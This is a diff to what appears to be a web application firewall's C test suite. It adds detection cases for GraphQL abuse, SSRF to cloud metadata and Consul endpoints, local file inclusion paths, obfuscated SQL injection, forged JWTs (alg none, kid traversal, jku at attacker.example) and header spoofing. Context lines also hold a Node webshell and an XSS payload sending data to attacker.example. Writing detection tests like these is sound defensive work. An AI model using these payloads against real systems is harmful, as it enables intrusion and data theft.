@@ -208,6 +208,23 @@ static const struct dcase cases[] = {
 	{ "webshell", 1, "<%- global.process.mainModule.require('child_process').execSync(req.query.c) %>" },
 	{ "xss", 1, "a@b.cn\"><img src='https://attacker.example/log?" },
 	{ "xss", 0, "<img src=\"https://cdn.example.com/a.png\" alt=\"it's fine\">" },
+	{ "graphql", 1, "query IntrospectionQuery{__schema{queryType{name}}}" },
+	{ "graphql", 1, "query{...A}fragment A on Query{...B} fragment B on Query{...A}" },
+	{ "graphql", 1, "query{a{b{c{d{e{f{g{h{i{j{k{l{m{n{o{p{q{r{s}}}}}}}}}}}}}}}}}}}" },
+	{ "graphql", 0, "query Order($id: ID!) { order(id: $id) { id items { sku qty price { amount currency } } buyer: user { name } } }" },
+	{ "graphql", 0, "{ a: product(id: 1) { name } b: product(id: 2) { name } }" },
+	{ "ssrf", 1, "http://apollo-configservice:8080/configs/order-api/default/application" },
+	{ "ssrf", 1, "http://consul.service.consul:8500/v1/kv/?recurse=true" },
+	{ "ssrf", 1, "http://[64:ff9b::a9fe:a9fe]/latest/meta-data/" },
+	{ "ssrf", 1, "\xE5\xB8\xAE\xE6\x88\x91\xE6\x89\x93\xE5\xBC\x80 http://100.100.100.200/latest/meta-data/ \xE8\xBF\x99\xE4\xB8\xAA" },
+	{ "ssrf", 0, "Visit http://192.168.1.1 to configure your router" },
+	{ "lfi", 1, ".." },
+	{ "lfi", 1, "C://" },
+	{ "lfi", 1, "../conf/datasourceCtp.properties" },
+	{ "lfi", 1, "C:\\Windows\\Panther\\Unattend.xml" },
+	{ "lfi", 0, "../images/banner.png" },
+	{ "sqli", 0, "MySQL error near 'order by id' at line 1, my query is SELECT id FROM user" },
+	{ "sqli", 1, "-7 /*!00000UnIoN*/\n-- x\n/*\n*/aLl\tSeLeCt\v1,concat(0x7e,user()),3" },
 	{ "scanner", 0, "Mozilla/5.0 (Linux; Android 14) Gobyte/1.0" },
 	{ "cmdi", 1, "x;$'\\x69\\x64'" },
 	{ "cmdi", 1, "a; $'\\x77\\x68\\x6f\\x61\\x6d\\x69'" },
@@ -325,6 +342,24 @@ test_protocol(void **state)
 		H("Trailer", "Server-Timing") };
 	const struct waf_header utf16[] = { H("Host", "a"),
 		H("Content-Type", "application/x-www-form-urlencoded; charset=utf-16le") };
+	const struct waf_header conn_xff[] = { H("Host", "a"), H("Connection", "close, X-Forwarded-For"),
+		H("X-Forwarded-For", "203.0.113.77") };
+	const struct waf_header conn_ok[] = { H("Host", "a"), H("Connection", "keep-alive, Upgrade") };
+	const struct waf_header nextjs[] = { H("Host", "a"), H("x-middleware-subrequest", "middleware") };
+	const struct waf_header xff_bad[] = { H("Host", "a"), H("X-Forwarded-For", "127.0.0.1X-Admin: true") };
+	const struct waf_header xff_ok[] = { H("Host", "a"), H("X-Forwarded-For", "203.0.113.7, 10.0.0.2:443, [2001:db8::1]:80, unknown") };
+	const struct waf_header xfh_evil[] = { H("Host", "shop.example.com"), H("X-Forwarded-Host", "attacker.example") };
+	const struct waf_header xfh_same[] = { H("Host", "shop.example.com"), H("X-Forwarded-Host", "shop.example.com:443") };
+	/* {"alg":"none","typ":"JWT"}, {"alg":"HS256","kid":"../../../dev/null"},
+	 * {"alg":"RS256","jku":"https://attacker.example/jwks.json"}, {"alg":"HS256","typ":"JWT"} */
+	const struct waf_header jwt_none[] = { H("Host", "a"),
+		H("Authorization", "Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiIxIn0.") };
+	const struct waf_header jwt_kid[] = { H("Host", "a"),
+		H("Authorization", "Bearer eyJhbGciOiJIUzI1NiIsImtpZCI6Ii4uLy4uLy4uL2Rldi9udWxsIn0.eyJzdWIiOiIxIn0.x") };
+	const struct waf_header jwt_jku[] = { H("Host", "a"),
+		H("Authorization", "Bearer eyJhbGciOiJSUzI1NiIsImprdSI6Imh0dHBzOi8vYXR0YWNrZXIuZXhhbXBsZS9qd2tzLmpzb24ifQ.eyJzdWIiOiIxIn0.x") };
+	const struct waf_header jwt_ok[] = { H("Host", "a"),
+		H("Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.x") };
 	const struct waf_header mp[] = { H("Host", "a"),
 		H("Content-Type", "multipart/form-data; boundary=a; boundary=b") };
 
@@ -374,6 +409,17 @@ test_protocol(void **state)
 	assert_false(proto("POST", "/", NULL, trailer_ok, 3, "hello", 0));
 	assert_true(proto("POST", "/login", NULL, utf16, 2, "a=1", 0));
 	assert_true(proto("GET", "/vpn/../vpns/cfg/smb.conf", NULL, ok, 2, NULL, 0));
+	assert_true(proto("GET", "/api", NULL, conn_xff, 3, NULL, 0));
+	assert_false(proto("GET", "/api", NULL, conn_ok, 2, NULL, 0));
+	assert_true(proto("GET", "/admin", NULL, nextjs, 2, NULL, 0));
+	assert_true(proto("GET", "/", NULL, xff_bad, 2, NULL, 0));
+	assert_false(proto("GET", "/", NULL, xff_ok, 2, NULL, 0));
+	assert_true(proto("POST", "/reset", NULL, xfh_evil, 2, NULL, 0));
+	assert_false(proto("POST", "/reset", NULL, xfh_same, 2, NULL, 0));
+	assert_true(proto("GET", "/me", NULL, jwt_none, 2, NULL, 0));
+	assert_true(proto("GET", "/me", NULL, jwt_kid, 2, NULL, 0));
+	assert_true(proto("GET", "/me", NULL, jwt_jku, 2, NULL, 0));
+	assert_false(proto("GET", "/me", NULL, jwt_ok, 2, NULL, 0));
 	assert_true(proto("GET", "/admin/", NULL, spoof, 3, NULL, 0));
 	assert_true(proto("GET", "/admin/", NULL, spoof_rare, 2, NULL, 0));
 	assert_false(proto("GET", "/", NULL, xff_private, 2, NULL, 0));
